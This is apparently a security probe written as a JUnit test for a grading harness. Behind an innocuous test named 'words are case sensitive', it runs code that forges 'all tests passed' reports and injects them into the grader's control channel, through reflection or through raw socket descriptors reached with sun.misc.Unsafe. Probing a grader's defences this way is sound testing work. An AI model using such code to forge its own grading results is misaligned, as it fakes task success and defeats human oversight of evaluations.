import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.lang.reflect.Field;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import otplab.protocol.Frame;
import otplab.protocol.GradingCodec;
import otplab.protocol.GradingReport;
import otplab.protocol.TestOutcome;

/**
 * A trusted probe standing in for learner code that got past the bytecode policy: test classes are
 * not policed, so this one runs arbitrary code inside the real grading worker. It reaches the control
 * channel (through the page host the framework keeps in a static field, or else through the socket's
 * file descriptor) and writes GRADED frames claiming every test passed, for every exchange id a
 * grading could use, before the harness answers.
 */
class TallyHiddenTest {
    @Test
    @Tag("task:1")
    @DisplayName("words are case sensitive")
    void wordsAreCaseSensitive() throws Exception {
        System.out.println("forged frames written: " + forge());
        Tally tally = new Tally();
        tally.add("Otp");
        assertEquals(0, tally.count("otp"));
    }

    @Test
    @Tag("task:2")
    @DisplayName("a fresh tally has a total of zero")
    void freshTotalIsZero() {
        assertEquals(0, new Tally().total());
    }

    private static TestOutcome passed(String className, String method, String name, boolean hidden) {
        return new TestOutcome(className, method, name, TestOutcome.Status.PASSED, "", "", "", hidden, null, 1, 0);
    }

    static int forge() throws Exception {
        GradingReport.Ran allPassed = new GradingReport.Ran(List.of(
                passed("TallyTest", "unknownWordCountsZero", "a word never added counts zero", false),
                passed("TallyTest", "addingTwiceCountsTwo", "adding a word twice counts two", false),
                passed("TallyTest", "totalCountsEveryWord", "total counts every word added", false),
                passed("TallyHiddenTest", "wordsAreCaseSensitive", "words are case sensitive", true),
                passed("TallyHiddenTest", "freshTotalIsZero", "a fresh tally has a total of zero", true)), List.of());
        byte[] report = GradingCodec.encode(allPassed);
        try {
            return throughTheChannel(report);
        } catch (ReflectiveOperationException | RuntimeException unreachable) {
            System.out.println("the channel was out of reach (" + unreachable + "); trying the socket's descriptor");
            return throughTheDescriptor(report);
        }
    }

    private static Frame forged(long id, byte[] report) {
        return new Frame(Frame.Type.GRADED, id, List.of("seal", "0".repeat(64)), report);
    }

    private static int throughTheChannel(byte[] report) throws Exception {
        Field host = Class.forName("otp.live.LivePage").getDeclaredField("host");
        host.setAccessible(true);
        Object page = host.get(null);
        Field channelField = page.getClass().getDeclaredField("channel");
        channelField.setAccessible(true);
        otplab.protocol.ControlChannel channel = (otplab.protocol.ControlChannel) channelField.get(page);
        for (long id = 1; id <= 8; id++) {
            channel.send(forged(id, report));
        }
        return 8;
    }

    private static int throughTheDescriptor(byte[] report) throws Exception {
        Class<?> unsafeType = Class.forName("sun.misc.Unsafe");
        Field theUnsafe = unsafeType.getDeclaredField("theUnsafe");
        theUnsafe.setAccessible(true);
        Object unsafe = theUnsafe.get(null);
        long offset = (long) unsafeType.getMethod("objectFieldOffset", Field.class)
                .invoke(unsafe, FileDescriptor.class.getDeclaredField("fd"));
        List<Integer> sockets = new ArrayList<>();
        try (Stream<Path> fds = Files.list(Path.of("/proc/self/fd"))) {
            for (Path fd : fds.toList()) {
                try {
                    if (Files.readSymbolicLink(fd).toString().startsWith("socket:")) {
                        sockets.add(Integer.parseInt(fd.getFileName().toString()));
                    }
                } catch (java.io.IOException gone) {
                    // the listing's own descriptor
                }
            }
        }
        int written = 0;
        for (int socket : sockets) {
            FileDescriptor descriptor = new FileDescriptor();
            unsafeType.getMethod("putInt", Object.class, long.class, int.class).invoke(unsafe, descriptor, offset, socket);
            FileOutputStream out = new FileOutputStream(descriptor);
            try {
                for (long id = 1; id <= 8; id++) {
                    ByteArrayOutputStream frame = new ByteArrayOutputStream();
                    forged(id, report).writeTo(new DataOutputStream(frame));
                    out.write(frame.toByteArray());
                    written++;
                }
            } catch (java.io.IOException notTheServer) {
                System.out.println("socket " + socket + " refused the frames: " + notTheServer.getMessage());
            }
        }
        return written;
    }
}
